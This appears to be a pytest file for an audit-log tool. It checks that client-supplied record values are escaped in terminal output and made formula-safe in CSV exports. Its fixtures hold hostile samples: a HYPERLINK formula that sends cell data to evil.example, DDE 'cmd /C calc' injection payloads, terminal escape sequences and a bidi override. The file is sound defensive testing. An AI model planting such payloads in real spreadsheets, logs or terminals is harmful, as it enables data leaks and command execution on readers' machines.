"""Record data cannot act on whoever reads it (issue 14, finding 9).

A client chooses every attribute value, so a record can carry terminal escape sequences
(clear screen, colours, OSC title and hyperlink sequences), bidirectional overrides that
reorder what an auditor reads, and cells a spreadsheet runs as formulas. Terminal output
shows such characters as escapes; CSV written for spreadsheets puts ``'`` before a formula;
JSON and JSONL keep the exact values. The escaping rules are checked against
:mod:`unicodedata`, then a signed ledger holds a hostile record and every output of it is
read back: ``search`` and ``sql`` tables, ``search`` CSV and JSONL, ``sql`` CSV, and an exported
bundle's ``records.csv``, which ``verify-bundle`` still proves (and an ``otaudit-bundle/1``
bundle, whose CSV is verbatim, still verifies).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import time
import unicodedata
from pathlib import Path

import orjson
import pytest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
from opentelemetry.proto.resource.v1.resource_pb2 import Resource
from opentelemetry.proto.trace.v1.trace_pb2 import ResourceSpans, ScopeSpans, Span
from rich.console import Console

from minilog import run_cli, sealed_ledger
from otaudit import completeness
from otaudit.bundle.layout import csv_row
from otaudit.query import cell, to_csv
from otaudit.record import Columns
from otaudit.sqllimits import QueryRows
from otaudit.textsafety import spreadsheet_cell, terminal_text

CLEAR = "\x1b[2J\x1b[H"
OSC_TITLE = "\x1b]0;all clear\x07"
BIDI = "\u202e"
HOSTILE = {  # attribute -> value; each record also has audit.action = "read"
    "audit.target": f"doc-1{CLEAR}{OSC_TITLE}\x9b31m",
    "user.id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "audit.resource_type": f"invoice{BIDI}fdp.exe",
    "audit.result": "@SUM(1+1)*cmd|' /C calc'!A0",
    "client.address": "-2+3+cmd|' /C calc'!A0",
}
UNSAFE_OUT = ("\x1b", "\x07", "\x9b", BIDI)


# -- the rules ------------------------------------------------------------------------------


def test_terminal_text_escapes_every_control_format_and_separator_character() -> None:
    """Every Cc (but tab and newline), Cf, Cs, Zl and Zp character of this Python's Unicode
    database is escaped as Python writes it; no letter, mark, number, punctuation, symbol or
    space is touched."""
    unsafe, kept = [], []
    for code in range(0x110000):
        category = unicodedata.category(chr(code))
        if category in ("Cc", "Cf", "Cs", "Zl", "Zp") and chr(code) not in "\t\n":
            unsafe.append(code)
        elif category[0] in "LMNPS" or category == "Zs":
            kept.append(chr(code))

    def escape(code: int) -> str:
        return (
            f"\\x{code:02x}"
            if code < 0x100
            else f"\\u{code:04x}"
            if code < 0x10000
            else f"\\U{code:08x}"
        )

    assert terminal_text("".join(map(chr, unsafe))) == "".join(map(escape, unsafe))
    assert terminal_text("".join(kept)) == "".join(kept)


def test_terminal_text_examples() -> None:
    assert terminal_text(f"a{CLEAR}b") == "a\\x1b[2J\\x1b[Hb"
    assert terminal_text(OSC_TITLE) == "\\x1b]0;all clear\\x07"
    assert terminal_text("\x9b31m\x7f\r") == "\\x9b31m\\x7f\\x0d"
    assert terminal_text(f"invoice{BIDI}fdp.exe") == "invoice\\u202efdp.exe"
    assert terminal_text("\U000e0041\ud800") == "\\U000e0041\\ud800"
    assert terminal_text("tab\there\nzoë [b]x[/b] 名前 🙂") == "tab\there\nzoë [b]x[/b] 名前 🙂"


def test_table_cells_escape_and_are_not_markup() -> None:
    console = Console(file=io.StringIO(), width=200, force_terminal=True, color_system=None)
    console.print(cell(f"[red]x{CLEAR}{BIDI}"))
    out = console.file.getvalue()  # type: ignore[attr-defined]
    assert "[red]x\\x1b[2J\\x1b[H\\u202e" in out
    assert not any(c in out for c in UNSAFE_OUT)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # a leading quote is doubled, so one can always be dropped
        ("-12", "-12"),
        ("-0.5e3", "-0.5e3"),
        ("alice", "alice"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_cell(value: object, shown: object) -> None:
    assert spreadsheet_cell(value) == shown
    if isinstance(shown, str) and shown.startswith("'"):
        assert shown[1:] == value  # what a program reading the CSV recovers


def test_completeness_reports_are_safe() -> None:
    rows = [("svc" + CLEAR, "=cmd()", 3)]
    table = completeness.to_table(("service", "producer", "n"), rows)
    assert "svc\\x1b[2J" in table and "\x1b" not in table
    got = list(csv.reader(io.StringIO(completeness.to_csv(("service", "producer", "n"), rows))))
    assert got[1] == ["svc" + CLEAR, "'=cmd()", "3"]


def test_bundle_csv_row_depends_on_the_format() -> None:
    fields = dict.fromkeys(Columns._fields, "x") | {"actor": "=cmd()", "time_unix_nano": 1}
    columns = Columns(**fields)  # type: ignore[arg-type]
    assert csv_row(7, columns)[Columns._fields.index("actor") + 1] == "'=cmd()"
    assert csv_row(7, columns, "otaudit-bundle/1")[Columns._fields.index("actor") + 1] == "=cmd()"


# -- end to end -----------------------------------------------------------------------------


def _request(now: int) -> bytes:
    attrs = [KeyValue(key=k, value=AnyValue(string_value=v)) for k, v in HOSTILE.items()]
    attrs.append(KeyValue(key="audit.action", value=AnyValue(string_value="read")))
    span = Span(
        trace_id=(0x5AFE).to_bytes(16, "big"),
        span_id=(0x5AFE).to_bytes(8, "big"),
        name=f"op{CLEAR}",
        start_time_unix_nano=now,
        end_time_unix_nano=now + 1000,
        attributes=attrs,
    )
    resource = Resource(
        attributes=[KeyValue(key="service.name", value=AnyValue(string_value="'quoted"))]
    )
    request = ExportTraceServiceRequest(
        resource_spans=[ResourceSpans(resource=resource, scope_spans=[ScopeSpans(spans=[span])])]
    )
    return request.SerializeToString()


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A data directory whose signed ledger holds one hostile record, and its verifier key."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    return data, sealed_ledger(data, _request(time.time_ns()))


def run(data: Path, *args: str | Path) -> str:
    result = run_cli(*args, "--data", data)
    assert result.exit_code == 0, result.stderr
    return result.stdout


def test_search_and_sql_tables_show_escapes(ledger: tuple[Path, str]) -> None:
    data, _ = ledger
    sql = "SELECT target, resource_type, name FROM audit_records WHERE action = 'read'"
    for args in (
        ("search", "--action", "read", "--wide"),
        ("sql", sql, "--wide"),
        ("search", "--action", "read", "--format", "vertical"),
        ("sql", sql, "--format", "vertical"),
    ):
        out = run(data, *args)
        assert not any(c in out for c in UNSAFE_OUT), args
        flat = "".join(line.strip("│┃ ") for line in out.splitlines())  # folded cells joined
        assert "\\x1b[2J" in flat and "\\x07" in flat and "\\x9b31m" in flat, args
        assert "invoice\\u202efdp.exe" in flat, args
    for cut in (("search", "--action", "read"), ("sql", sql)):  # cut to the column width
        out = run(data, *cut)
        assert not any(c in out for c in UNSAFE_OUT) and "…" in out, cut


def test_search_csv_is_safe_for_spreadsheets_and_jsonl_exact(ledger: tuple[Path, str]) -> None:
    data, _ = ledger
    text = run(data, "search", "--action", "read", "--format", "csv")
    header, row = list(csv.reader(io.StringIO(text)))
    got = dict(zip(header, row, strict=True))
    assert got["actor"] == "'" + HOSTILE["user.id"]
    assert got["result"] == "'" + HOSTILE["audit.result"]
    assert got["client_address"] == "'" + HOSTILE["client.address"]
    assert got["service"] == "''quoted"
    assert got["target"] == HOSTILE["audit.target"]  # CSV is for spreadsheets, not terminals
    lines = run(data, "search", "--action", "read", "--format", "jsonl").splitlines()
    exact = json.loads(lines[0])
    assert (exact["actor"], exact["target"], exact["service"]) == (
        HOSTILE["user.id"],
        HOSTILE["audit.target"],
        "'quoted",
    )


def test_sql_csv_is_safe_for_spreadsheets() -> None:
    rows = QueryRows(["actor", "n"], [(HOSTILE["user.id"], -1), ("'x", 2)])
    assert list(csv.reader(io.StringIO(to_csv(rows))))[1:] == [
        ["'" + HOSTILE["user.id"], "-1"],
        ["''x", "2"],
    ]


def test_bundle_csv_is_safe_and_an_old_bundle_still_verifies(
    ledger: tuple[Path, str], tmp_path: Path
) -> None:
    data, key = ledger
    out = tmp_path / "bundle"
    run(data, "export", "--out", out, "--action", "read")
    rows = list(csv.DictReader(io.StringIO((out / "records.csv").read_text(), newline="")))
    assert rows[0]["actor"] == "'" + HOSTILE["user.id"]
    assert orjson.loads((out / "records.jsonl").read_bytes())["actor"] == HOSTILE["user.id"]
    assert run_cli("verify-bundle", out, "--key", key).exit_code == 0
    # The same bundle as format otaudit-bundle/1 wrote it: verbatim CSV, no manifest.sig.
    with (out / "records.csv").open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(rows[0].keys())
        writer.writerows([[v[1:] if v.startswith("'") else v for v in r.values()] for r in rows])
    manifest = orjson.loads((out / "manifest.json").read_bytes())
    raw = (out / "records.csv").read_bytes()
    manifest["format"] = "otaudit-bundle/1"
    manifest["files"]["records.csv"] = {"sha256": hashlib.sha256(raw).hexdigest(),
                                        "bytes": len(raw)}  # fmt: skip
    (out / "manifest.json").write_bytes(orjson.dumps(manifest, option=orjson.OPT_INDENT_2))
    (out / "manifest.sig").unlink()
    old = run_cli("verify-bundle", out, "--key", key)
    assert old.exit_code == 0, old.stderr
    # A bundle that says otaudit-bundle/2 must hold the spreadsheet-safe CSV.
    manifest["format"] = "otaudit-bundle/2"
    (out / "manifest.json").write_bytes(orjson.dumps(manifest, option=orjson.OPT_INDENT_2))
    new = run_cli("verify-bundle", out, "--key", key)
    assert new.exit_code == 1
    assert "records.csv row for seq 0: " in new.stderr
